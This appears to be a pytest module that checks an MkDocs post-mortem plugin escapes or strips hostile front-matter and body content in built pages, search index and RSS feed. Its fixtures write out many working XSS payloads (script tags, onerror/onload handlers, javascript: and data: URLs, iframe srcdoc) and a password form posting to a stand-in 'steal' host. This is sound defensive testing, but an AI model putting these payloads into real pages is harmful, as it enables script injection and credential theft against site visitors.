"""Proof: a site full of hostile values runs no script from a document, in either `on_invalid` mode.

Material with its search and tags plugins and mkdocs-rss-plugin builds post-mortems whose every field
tries to inject markup: valid ones with `on_invalid: error` (what the schema allows: any prose,
identifiers made of letters, digits, spaces and - _ . + /) and invalid ones published with
`on_invalid: warn` (markup in tags and services, fields the schema does not know, a front matter
that does not parse or never ends). Then EVERY built HTML page and every title, text and tag of
`search/search_index.json` (rendered as HTML, the way Material's search shows them) is parsed with
html.parser: no element, attribute or script made from a document, no on* attribute, no javascript:
URL. The RSS feed, parsed with xml.etree, shows each title exactly as written.
"""

from __future__ import annotations

import html
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from .hostile import injected, unsafe_content
from .test_build import build

pytestmark = pytest.mark.slow

IMG = "<img src=x onerror=alert('XSS')>"
SCRIPT = "<script>alert('XSS')</script>"
BOLD = "<b class=XSS>b</b>"
BREAKOUT = "</title><script>alert('XSS')</script>"
ATTRIBUTE = '" onmouseover="alert(\'XSS\')" x="'
JS_LINK = "[x](javascript:alert('XSS'))"
SVG = "<svg onload=alert('XSS')><XSS>"

#: Prose any valid post-mortem may hold; each must read exactly like this wherever it is shown.
TITLES = {
    "INC-2025-0001": f'Card {IMG} declined & "retried" {BOLD}',
    "INC-2025-0002": f"{BREAKOUT} | *b* {JS_LINK}",
    "INC-2025-0003": f"{ATTRIBUTE} {SVG} &amp; &lt;b class=XSS&gt;",
}
SUMMARY = f"Payments {SCRIPT} failed; {ATTRIBUTE} {JS_LINK} {BOLD} & <!-- x --> {{{{ config }}}}"

#: Identifiers the schema admits that Markdown would act on if they were not escaped.
ALLOWED_NAMES = ["_em_ a+b", "1. x", "a/b.c", "- t", "+_x_+", "javascript/alert"]

TICKETS = ["javascript:alert('XSS')", " JaVaScRiPt:alert('XSS')", "data:text/html,<b class=XSS>", f'https://x.example/"{BOLD}']

#: Bodies are Markdown whose raw HTML the plugin sanitizes (body_html: sanitized, the default). First
#: benign markup whose attributes hold mentions and '>', then every way a body's HTML could run script,
#: submit, redirect, embed or cover the page: none of it may reach a reader.
BODY = """\
## What happened

Caused by INC-2025-0002, like INC-2025-0003 and INC-2025-0099.

<abbr title="a > INC-2025-0002 <b class=XSS>">x</abbr> `INC-2025-0002` <kbd>INC-2025-0003</kbd>

[see INC-2025-0002](https://x.example/INC-2025-0002 "INC-2025-0002 > y") ![INC-2025-0003](https://x.example/INC-2025-0003.png)

## Heading <img src=x onerror=alert('XSS')> &lt;img src=x onerror=alert('XSS')&gt;

## Labelled {: data-toc-label="<img src=x onerror=alert('XSS')>" onclick="alert('XSS')" }

<script>alert('XSS')</script>
<img src=x onerror=alert('XSS')> <XSS>x</XSS> <p xss="1">attribute</p>

[a](javascript:alert(document.cookie)) [b]( JaVaScRiPt:alert(1)) [c](vbscript:msgbox(1))
![d](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)
<a href="javascript:alert('XSS')">e</a> <a href="&#106;avascript:alert('XSS')">f</a>
<a href="data:text/html,<script>alert('XSS')</script>">g</a>
[h](https://x.example/){: onclick="alert('XSS')" }

<iframe srcdoc="<script>alert('XSS')</script>" src="https://x.example/"></iframe>
<svg onload=alert('XSS')><a href="javascript:alert('XSS')"><text>t</text></a>
<animate attributeName="href" to="javascript:alert('XSS')"/><use href="data:image/svg+xml,x"/></svg>
<form action="https://x.example/steal"><input name="password"><button formaction="javascript:alert('XSS')">Log in</button></form>
<meta http-equiv="refresh" content="0;url=https://x.example/"><base href="https://x.example/"><link rel="stylesheet" href="https://x.example/x.css">
<style>body { display: none }</style>
<object data="https://x.example/x.swf"></object><embed src="https://x.example/x.swf">
<div style="position:fixed;inset:0;background:white" onmouseover="alert('XSS')">cover</div>
<details open ontoggle=alert('XSS')><summary>s</summary>d</details>
<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert('XSS')>"></p></noscript>
<template><script>alert('XSS')</script></template>

<div markdown="1" onclick="alert('XSS')">*md in html*</div>
"""


def quoted(value: str) -> str:
    return json.dumps(value)  # a YAML double-quoted scalar


def valid_postmortem(ident: str, title: str, references: str = "") -> str:
    actions = "\n".join(
        f"  - title: {quoted(t)}\n    owner: {quoted(o)}\n    due: 2025-06-01\n    status: not-started\n    ticket: {quoted(k)}"
        for t, o, k in zip([f"{SCRIPT} | *x*", JS_LINK, BOLD, IMG], [IMG, BOLD, ATTRIBUTE, SVG], TICKETS, strict=True)
    )
    return f"""---
id: {ident}
title: {quoted(title)}
date: 2025-03-02
severity: P1
status: in-review
summary: {quoted(SUMMARY)}
commander: {quoted(BOLD)}
participants: [{quoted(IMG)}]
services: {json.dumps(ALLOWED_NAMES[:3])}
tags: {json.dumps(ALLOWED_NAMES[3:])}
detection: {{source: monitoring, method: {quoted(SCRIPT)}}}
impact:
  other_services: {json.dumps(ALLOWED_NAMES)}
  regions: [{quoted(BOLD)}]
  data_loss_details: {quoted(IMG)}
root_cause:
  primary: {quoted(BREAKOUT)}
  contributing: [{quoted(JS_LINK)}]
{references}actions:
{actions}
---

{BODY}"""


VALID = {
    "inc-2025-0001": valid_postmortem("INC-2025-0001", TITLES["INC-2025-0001"], "references: [INC-2025-0002]\n"),
    "inc-2025-0002": valid_postmortem("INC-2025-0002", TITLES["INC-2025-0002"]),
    "inc-2025-0003": valid_postmortem(
        "INC-2025-0003", TITLES["INC-2025-0003"], "references: [{id: INC-2025-0001, relation: caused-by}]\n"
    ),
}

INVALID = {
    **VALID,
    # rejected names, an unknown severity and fields the schema does not know
    "inc-2025-0004": valid_postmortem("INC-2025-0004", f"Invalid {IMG}")
    .replace("severity: P1", "severity: P9")
    .replace(
        "tags: ",
        f"subtitle: {quoted(BOLD)}\ntemplate: main.html\nnote: {quoted(SCRIPT)}\ntags: [{quoted(IMG)}, {quoted(BOLD)}, ok] #",
    )
    .replace("services: ", f"services: [{quoted(SVG)}] #"),
    # wrong types everywhere
    "inc-2025-0005": f"---\nid: INC-2025-0005\ntitle: [{quoted(BOLD)}]\ndate: yesterday\nseverity: P1\nstatus: in-review\n"
    f"summary: {{a: {quoted(SCRIPT)}}}\ntags: {quoted(IMG)}\n---\n\nBody INC-2025-0001.\n\n{BODY}",
    # a front matter that does not parse: MkDocs would render it as Markdown
    "inc-2025-0006": f"---\nid: INC-2025-0006\ntitle: {BOLD}\n  broken: [\nsummary: {SCRIPT}\n---\n\n{BODY}",
    # a front matter that never ends
    "inc-2025-0007": f"---\nid: INC-2025-0007\ntitle: {BOLD}\nsummary: {SCRIPT}\n\n# Heading {IMG}\n",
}

MKDOCS_YML = """\
site_name: Hostile
site_url: https://example.org/
theme: material
markdown_extensions:
  - toc: {{permalink: true}}
plugins:
  - search
  - tags
  - postmortem:
      as_of: 2026-01-01
      on_invalid: {mode}
  - rss:
      use_git: false
      match_path: "postmortems/inc-.*"
      date_from_meta: {{as_creation: date}}
      categories: [tags]
"""


def build_site(root: Path, mode: str, docs: dict[str, str]) -> Path:
    (root / "docs" / "postmortems").mkdir(parents=True)
    (root / "docs" / "index.md").write_text("# Home\n")
    (root / "docs" / "tags.md").write_text("# Tags\n\n<!-- material/tags -->\n")
    for name, text in docs.items():
        (root / "docs" / "postmortems" / f"{name}.md").write_text(text, encoding="utf-8")
    (root / "mkdocs.yml").write_text(MKDOCS_YML.format(mode=mode))
    args = ["--strict"] if mode == "error" else []
    result = build(root, *args)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return root / "site"


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return {
        "error": build_site(tmp_path_factory.mktemp("hostile-error"), "error", VALID),
        "warn": build_site(tmp_path_factory.mktemp("hostile-warn"), "warn", INVALID),
    }


MODES = ["error", "warn"]


def test_the_checker_finds_what_it_looks_for():
    """tests/hostile.py would see an injection: each of these is one."""
    for bad in (IMG, SCRIPT, BOLD, SVG, '<a href=" javascript:alert(1)">x</a>', '<p title="" onmouseover="x">'):
        assert injected(bad), bad
    for bad in ("<a href='data:text/html,x'>", "<a href='VBScript:x'>", "<iframe srcdoc=x>", "<button formaction=x>"):
        assert injected(bad), bad
    for fine in (html.escape(IMG), html.escape(SCRIPT), f'<meta content="{html.escape(BOLD)}">', "<a href='https://x'>x</a>"):
        assert not injected(fine), fine
    forbidden = ("<iframe>", "<form>", "<meta http-equiv=refresh>", "<style>p{}</style>", "<object>", "<embed>")
    for bad in (*forbidden, '<p style="position:fixed">'):
        assert unsafe_content(f"<article>{bad}</article>"), bad
        assert not unsafe_content(f"<head>{bad}</head><article></article>"), bad  # the theme's own
    assert not unsafe_content('<article><td style="text-align: right;">1</td><td style="text-align:left">2</td></article>')
    assert unsafe_content("<div>no article</div>")


@pytest.mark.parametrize("mode", MODES)
def test_no_built_page_has_markup_from_a_document(sites: dict[str, Path], mode: str):
    pages = sorted(sites[mode].rglob("*.html"))
    published = {p.parent.name for p in pages}
    assert set(VALID if mode == "error" else INVALID) <= published  # every post-mortem is there to be checked
    found = {str(p.relative_to(sites[mode])): injected(p.read_text(encoding="utf-8")) for p in pages}
    assert not {page: what for page, what in found.items() if what}


@pytest.mark.parametrize("mode", MODES)
def test_no_post_mortem_page_has_a_body_element_that_runs_embeds_submits_or_restyles(sites: dict[str, Path], mode: str):
    """script, iframe, object, embed, form, meta, base, link, style (element or position-like inline style)."""
    pages = {name: sites[mode] / "postmortems" / name / "index.html" for name in (VALID if mode == "error" else INVALID)}
    found = {name: unsafe_content(page.read_text(encoding="utf-8")) for name, page in pages.items()}
    assert not {name: what for name, what in found.items() if what}


@pytest.mark.parametrize("mode", MODES)
def test_materials_search_index_renders_no_markup_from_a_document(sites: dict[str, Path], mode: str):
    index = json.loads((sites[mode] / "search" / "search_index.json").read_text(encoding="utf-8"))
    entries = [d for d in index["docs"] if d["location"].startswith("postmortems/inc-")]
    assert len(entries) >= len(VALID)
    for entry in index["docs"]:
        shown = f"<h1>{entry['title']}</h1><p>{entry['text']}</p>" + "".join(f"<span>{t}</span>" for t in entry.get("tags", []))
        assert not injected(shown), entry


@pytest.mark.parametrize("mode", MODES)
def test_the_rss_feed_shows_titles_exactly_as_written(sites: dict[str, Path], mode: str):
    items = {i.findtext("guid") or "": i for i in ET.parse(sites[mode] / "feed_rss_created.xml").getroot().iter("item")}
    for ident, title in TITLES.items():
        (item,) = [i for guid, i in items.items() if f"/{ident.lower()}/" in guid]
        assert item.findtext("title") == f"{ident}: {title}"
        description = item.findtext("description") or ""
        assert not injected(description)  # RSS descriptions are HTML
        assert html.unescape(description) == SUMMARY
        assert sorted(c.text or "" for c in item.iter("category")) == sorted(ALLOWED_NAMES[3:])


@pytest.mark.parametrize("mode", MODES)
def test_titles_read_as_written_in_the_page_header_and_tab(sites: dict[str, Path], mode: str):
    invalid = {"INC-2025-0004": f"Invalid {IMG}"} if mode == "warn" else {}
    for ident, title in (TITLES | invalid).items():
        page = _Texts()
        page.feed((sites[mode] / "postmortems" / ident.lower() / "index.html").read_text(encoding="utf-8"))
        assert page.title.startswith(f"{ident}: {title} - "), page.title
        assert f"{ident}: {title}" in page.header


def test_an_invalid_post_mortem_keeps_no_rejected_tag_in_search_or_the_tags_page(sites: dict[str, Path]):
    index = json.loads((sites["warn"] / "search" / "search_index.json").read_text(encoding="utf-8"))
    (entry,) = [d for d in index["docs"] if d["location"] == "postmortems/inc-2025-0004/"]
    assert entry["tags"] == ["ok"]


def test_mentions_in_attributes_stay_as_written(sites: dict[str, Path]):
    page = _Texts()
    page.feed((sites["error"] / "postmortems" / "inc-2025-0001" / "index.html").read_text(encoding="utf-8"))
    assert "a > INC-2025-0002 <b class=XSS>" in page.attributes
    assert "INC-2025-0002 > y" in page.attributes
    assert page.mentions == ["../inc-2025-0002/", "../inc-2025-0003/"]


class _Texts(HTMLParser):
    """A page's <title>, its header bar's text, attribute values and mention links."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.title = ""
        self.header = ""
        self.attributes: list[str] = []
        self.mentions: list[str] = []
        self._in: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        self.attributes.extend(v for v in values.values() if v)
        if tag == "a" and values.get("class") == "pm-mention":
            self.mentions.append(values.get("href") or "")
        if tag in ("title", "header"):
            self._in.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self._in and tag == self._in[-1]:
            self._in.pop()

    def handle_data(self, data: str) -> None:
        if "title" in self._in:
            self.title += data
        if "header" in self._in:
            self.header += data
